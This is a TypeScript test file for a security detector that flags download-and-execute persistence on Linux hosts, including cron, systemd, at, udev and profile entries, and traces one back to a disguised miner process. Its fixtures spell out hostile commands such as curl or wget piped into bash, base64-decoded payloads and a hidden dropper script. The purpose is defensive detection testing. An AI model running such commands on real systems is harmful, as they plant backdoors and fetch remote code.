// Tests for persistence-download-exec: distribution jobs never hit; curl|sh, wget -O- |bash, sh -c
// "$(curl …)" and download-then-run in cron, units, profiles, at jobs and udev do; a line that only
// downloads does not; a linked entry joins the miner process's finding; no persistence: skipped.
import { describe, expect, it } from 'vitest';
import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
import { FindingSchema } from '../../model/finding.js';
import type { PersistenceEntry } from '../../snapshot/persistence.js';
import { runDetectors } from '../run.js';
import { cleanHostSnapshot, makeProcess } from '../../../test/helpers/snapshot-builders.js';
import {
  cleanPersistence,
  cron,
  file,
  snapshotWith,
  unit,
} from '../../../test/helpers/persistence-builders.js';
import { persistenceDownloadExec } from './persistence-download-exec.js';

const ruleset = await loadRuleset([defaultIocDir()]);
const run = (...entries: PersistenceEntry[]) =>
  runDetectors(snapshotWith({ persistence: { ...cleanPersistence(), entries } }), ruleset, [
    persistenceDownloadExec,
  ]).findings;

describe('persistence-download-exec', () => {
  it('clean: finds nothing in the cron jobs, units, profiles and udev rules of a clean server', () => {
    const clean = cleanHostSnapshot();
    expect(
      runDetectors({ ...clean, ...snapshotWith({ ...clean, persistence: cleanPersistence() }) }, ruleset, [
        persistenceDownloadExec,
      ]),
    ).toEqual({ findings: [], skipped: [] });
  });

  it('findings: a cron line piping curl into bash is high, with the line and a remove-cron-line action', () => {
    const [f, ...rest] = run(
      cron('curl -fsSL http://198.51.100.20/a.sh | bash', {
        file: '/etc/crontab',
        place: 'crontab',
        line: 7,
      }),
    );
    expect(rest).toEqual([]);
    expect(FindingSchema.parse(f)).toEqual(f);
    expect(f).toMatchObject({
      ruleId: 'persistence-download-exec',
      category: 'persistence',
      level: 'high',
      messageId: 'pipesToInterpreter',
      data: {
        entry: { en: 'cron line /etc/crontab:7 (root)', 'zh-CN': 'cron 任务 /etc/crontab:7 (root)' },
        place: 'crontab',
        file: '/etc/crontab',
        line: 7,
        user: 'root',
        url: 'http://198.51.100.20/a.sh',
        downloader: 'curl',
      },
      message: {
        en: 'cron line /etc/crontab:7 (root) downloads http://198.51.100.20/a.sh and pipes it from curl into an interpreter',
        'zh-CN':
          'cron 任务 /etc/crontab:7 (root)下载 http://198.51.100.20/a.sh，通过 curl 下载并经管道交给解释器执行',
      },
      remediate: [
        {
          type: 'remove-cron-line',
          path: '/etc/crontab',
          line: '*/5 * * * * root curl -fsSL http://198.51.100.20/a.sh | bash',
        },
      ],
    });
  });

  it('findings: every form of download-and-run, in every place; a plain download is not one', () => {
    const findings = run(
      cron('wget -q -O - http://198.51.100.20/x | sh', { line: 1 }),
      cron('(curl -s http://h/a || wget -qO- http://h/a) | sh', { line: 2 }),
      cron('curl -o /tmp/x http://h/x && chmod +x /tmp/x && /tmp/x', { line: 3 }),
      cron('curl -s http://h/x | base64 -d | bash', { line: 4 }),
      unit('u.service', "/bin/sh -c 'curl -fsSL http://h/c.sh | sh'"),
      unit('v.service', '/bin/bash -c "$(curl -fsSL http://h/v.sh)"'),
      { place: 'at', file: '/var/spool/cron/atjobs/a1', command: 'curl -fsSL http://h/i.sh | sh' },
      {
        place: 'udev',
        file: '/etc/udev/rules.d/9.rules',
        line: 1,
        command: "/bin/sh -c 'wget -q -O- http://h/u | sh'",
      },
      {
        place: 'shell-profile',
        file: '/etc/profile.d/p.sh',
        line: 2,
        command: '(curl -s http://h/p.sh | bash &)',
      },
      // Not download-and-run: a download saved and never run, a health check, a script piped to grep.
      cron('curl -fsS -o /var/backups/feed.xml https://example.org/feed.xml', { line: 20 }),
      cron('curl -fsS -m 10 --retry 5 https://hc-ping.com/abc > /dev/null', { line: 21 }),
      cron('wget -qO- http://localhost/status | grep -q ok || systemctl restart app', { line: 22 }),
    );
    const entries = findings.map((f) => {
      const entry = f.data?.entry;
      return [typeof entry === 'object' ? entry.en : entry, f.messageId, f.data?.url];
    });
    expect(entries.sort()).toEqual([
      ['at job /var/spool/cron/atjobs/a1', 'pipesToInterpreter', 'http://h/i.sh'],
      ['cron line /etc/cron.d/job:1 (root)', 'pipesToInterpreter', 'http://198.51.100.20/x'],
      ['cron line /etc/cron.d/job:2 (root)', 'pipesToInterpreter', 'http://h/a'],
      ['cron line /etc/cron.d/job:3 (root)', 'savesAndRuns', 'http://h/x'],
      ['cron line /etc/cron.d/job:4 (root)', 'pipesToInterpreter', 'http://h/x'],
      ['shell start-up file line /etc/profile.d/p.sh:2', 'pipesToInterpreter', 'http://h/p.sh'],
      ['systemd unit u.service (ExecStart) (root)', 'pipesToInterpreter', 'http://h/c.sh'],
      ['systemd unit v.service (ExecStart) (root)', 'pipesToInterpreter', 'http://h/v.sh'],
      ['udev rule /etc/udev/rules.d/9.rules:1', 'pipesToInterpreter', 'http://h/u'],
    ]);
    expect(findings.find((f) => f.messageId === 'savesAndRuns')?.data).toMatchObject({
      downloader: 'curl',
      savedTo: '/tmp/x',
    });
  });

  it("findings: an entry that leads to a running process becomes part of that process's finding", () => {
    const entry = cron('curl -fsSL http://h/l.sh -o /var/tmp/.l.sh && sh /var/tmp/.l.sh');
    const miner = makeProcess({ pid: 4242, exe: '/var/tmp/.cache/kworkerds', argv: ['kworkerds'] });
    const snap = snapshotWith({
      processes: [miner],
      persistence: {
        ...cleanPersistence(),
        entries: [entry],
        files: [file('/var/tmp/.l.sh', { role: 'target', references: ['/var/tmp/.cache/kworkerds'] })],
      },
    });
    const [f] = runDetectors(snap, ruleset, [persistenceDownloadExec]).findings;
    expect(f).toMatchObject({
      messageId: 'savesAndRuns',
      data: {
        url: 'http://h/l.sh',
        savedTo: '/var/tmp/.l.sh',
        chain: { en: 'cron line /etc/cron.d/job:1 → /var/tmp/.l.sh → /var/tmp/.cache/kworkerds → PID 4242' },
      },
    });
    expect(f?.evidence).toContainEqual({
      type: 'match',
      field: 'chain',
      value: 'cron line /etc/cron.d/job:1 → /var/tmp/.l.sh → /var/tmp/.cache/kworkerds → PID 4242',
      ioc: 'persistence → process',
    });
    expect(f?.remediate.slice(0, 3)).toEqual([
      { type: 'kill-process-tree', pid: 4242, exe: '/var/tmp/.cache/kworkerds' },
      { type: 'quarantine-file', path: '/var/tmp/.cache/kworkerds' },
      { type: 'quarantine-file', path: '/var/tmp/.l.sh' },
    ]);
  });

  it('skipped: without the persistence section the detector is skipped, not clean', () => {
    expect(runDetectors(snapshotWith({ processes: [] }), ruleset, [persistenceDownloadExec])).toEqual({
      findings: [],
      skipped: [{ ruleId: 'persistence-download-exec', missing: ['persistence'] }],
    });
  });
});
